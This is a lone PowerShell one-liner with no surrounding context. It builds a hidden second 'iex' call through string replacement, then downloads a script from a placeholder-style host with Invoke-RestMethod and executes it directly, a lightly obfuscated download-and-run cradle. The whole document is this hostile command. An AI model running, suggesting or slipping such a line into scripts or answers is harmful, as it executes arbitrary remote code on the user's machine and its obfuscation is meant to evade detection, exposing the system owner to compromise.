iex ('iezzx (irm https://cdn-x7.invalid/a.ps1)'.Replace('zz',''))
